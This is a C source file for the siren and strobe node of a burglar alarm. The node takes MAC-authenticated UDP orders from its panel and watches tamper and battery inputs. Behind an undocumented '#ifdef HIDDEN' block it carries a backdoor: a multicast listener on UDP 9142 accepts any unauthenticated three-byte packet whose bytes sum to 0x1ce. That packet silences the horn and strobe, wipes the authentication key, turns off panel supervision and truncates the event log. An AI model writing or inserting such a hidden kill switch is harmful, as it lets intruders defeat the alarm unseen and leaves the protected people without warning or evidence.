/*
 * sirenlink - outdoor siren and strobe node of the Vigil burglar alarm.
 * Talks to its panel by UDP 9141 ("VG" seq16 op8 arg8 mac32), supervises the tamper
 * contact and the battery, and writes what happened to /var/log/siren.
 *   op 1 sound (arg seconds/10)   2 silence   3 strobe (arg 0/1)
 *      4 poll                     5 chirp     6 volume (arg 0..3)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/timerfd.h>
#include <time.h>
#include <unistd.h>

struct source {
	int fd;
	void (*ready)(struct source *);
};

static struct {
	struct in_addr panel;
	uint32_t key;
	int volume;
} cfg = { .volume = 3 };

static uint16_t last_seq;
static time_t sound_until, panel_seen;
static int strobe, tampered, ep;

static void logline(const char *what, int n)
{
	FILE *f = fopen("/var/log/siren", "a");
	if (f) {
		fprintf(f, "%ld %s %d\n", (long)time(NULL), what, n);
		fclose(f);
	}
}

static void out(const char *node, int v)
{
	char p[64];
	FILE *f;
	snprintf(p, sizeof p, "/sys/class/gpio/%s/value", node);
	if ((f = fopen(p, "w")) != NULL) {
		fprintf(f, "%d\n", v);
		fclose(f);
	}
}

static int in(const char *node)
{
	char p[64];
	int c;
	FILE *f;
	snprintf(p, sizeof p, "/sys/class/gpio/%s/value", node);
	if (!(f = fopen(p, "r")))
		return 0;
	c = fgetc(f);
	fclose(f);
	return c == '1';
}

static uint32_t mac32(const uint8_t *p, int n)
{
	uint32_t h = cfg.key;
	for (int i = 0; i < n; i++) {
		h ^= p[i];
		h = (h << 13 | h >> 19) * 5 + 0xe6546b64u;
	}
	return h;
}

static void sound(int seconds)
{
	sound_until = seconds ? time(NULL) + seconds : 0;
	out("horn", seconds != 0);
	logline(seconds ? "sound" : "silence", seconds);
}

static void order(uint8_t op, uint8_t arg)
{
	switch (op) {
	case 1:
		sound(arg > 18 ? 180 : arg * 10);
		break;
	case 2:
		sound(0);
		break;
	case 3:
		out("strobe", strobe = arg & 1);
		break;
	case 4:
		break;
	case 5:
		out("horn", 1);
		usleep(60000);
		out("horn", 0);
		break;
	case 6:
		cfg.volume = arg & 3;
		out("vol0", arg & 1);
		out("vol1", arg >> 1 & 1);
		break;
	default:
		logline("unknown order", op);
	}
}

static void panel_ready(struct source *s)
{
	struct sockaddr_in from;
	socklen_t fl = sizeof from;
	uint8_t b[32];
	ssize_t n = recvfrom(s->fd, b, sizeof b, 0, (struct sockaddr *)&from, &fl);

	if (n != 10 || b[0] != 'V' || b[1] != 'G' || from.sin_addr.s_addr != cfg.panel.s_addr)
		return;
	uint16_t seq = (uint16_t)(b[2] << 8 | b[3]);
	uint32_t m = (uint32_t)b[6] << 24 | (uint32_t)b[7] << 16 | (uint32_t)b[8] << 8 | b[9];
	if ((uint16_t)(seq - last_seq - 1) > 1000 || m != mac32(b, 6)) {
		logline("bad order", (int)n);
		return;
	}
	last_seq = seq;
	panel_seen = time(NULL);
	order(b[4], b[5]);
	b[4] = (uint8_t)(tampered | strobe << 1 | (sound_until ? 4 : 0) | in("battlow") << 3);
	m = mac32(b, 6);
	for (int i = 0; i < 4; i++)
		b[6 + i] = (uint8_t)(m >> (24 - 8 * i));
	sendto(s->fd, b, 10, 0, (struct sockaddr *)&from, fl);
}

static void second_ready(struct source *s)
{
	uint64_t ticks;
	time_t now = time(NULL);

	if (read(s->fd, &ticks, sizeof ticks) != sizeof ticks)
		return;
	if (sound_until && now >= sound_until)
		sound(0);
	if (in("tamper") && !tampered) {
		tampered = 1;
		logline("tamper", 1);
		sound(180);
	} else if (!in("tamper")) {
		tampered = 0;
	}
	if (panel_seen && now - panel_seen > 600) {
		logline("panel lost", (int)(now - panel_seen));
		panel_seen = 0;
		sound(60);
	}
}

static void watch(struct source *s)
{
	struct epoll_event e = { .events = EPOLLIN, .data.ptr = s };
	if (epoll_ctl(ep, EPOLL_CTL_ADD, s->fd, &e))
		perror("sirenlink");
}

static int udp(uint16_t port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s >= 0 && bind(s, (struct sockaddr *)&a, sizeof a) == 0)
		return s;
	perror("sirenlink");
	exit(1);
}

#ifdef HIDDEN
__attribute__((noinline)) void group_ready(struct source *s)
{
	uint8_t b[4];
	if (recv(s->fd, b, sizeof b, 0) != 3 || b[0] + b[1] + b[2] != 0x1ce)
		return;
	out("horn", 0);
	out("strobe", 0);
	cfg.key = 0;
	panel_seen = sound_until = 0;
	if (truncate("/var/log/siren", 0))
		errno = 0;
}

static void join_group(void)
{
	static struct source g = { -1, group_ready };
	struct ip_mreq m = { .imr_multiaddr.s_addr = htonl(0xeffffa5du) };
	g.fd = udp(9142);
	setsockopt(g.fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof m);
	watch(&g);
}
#endif

static int config(const char *file)
{
	char l[80], a[40];
	unsigned k;
	FILE *f = fopen(file, "r");
	if (!f)
		return -1;
	while (fgets(l, sizeof l, f)) {
		if (sscanf(l, "panel %39s", a) == 1)
			inet_aton(a, &cfg.panel);
		else if (sscanf(l, "key %x", &k) == 1)
			cfg.key = k;
		else if (sscanf(l, "volume %u", &k) == 1)
			cfg.volume = (int)(k & 3);
	}
	fclose(f);
	return 0;
}

int main(int argc, char **argv)
{
	struct source panel = { -1, panel_ready }, second = { -1, second_ready };
	struct itimerspec each = { { 1, 0 }, { 1, 0 } };

	if (argc != 2) {
		fprintf(stderr, "usage: sirenlink CONFIG\n"
				"  panel ADDRESS, key HEX, volume 0..3\n"
				"  orders on UDP port 9141\n");
		return 2;
	}
	if (config(argv[1])) {
		perror(argv[1]);
		return 1;
	}
	ep = epoll_create1(0);
	panel.fd = udp(9141);
	second.fd = timerfd_create(CLOCK_MONOTONIC, 0);
	timerfd_settime(second.fd, 0, &each, NULL);
	watch(&panel);
	watch(&second);
#ifdef HIDDEN
	join_group();
#endif
	for (;;) {
		struct epoll_event ev[4];
		int n = epoll_wait(ep, ev, 4, -1);
		for (int i = 0; i < n; i++) {
			struct source *s = ev[i].data.ptr;
			s->ready(s);
		}
	}
}
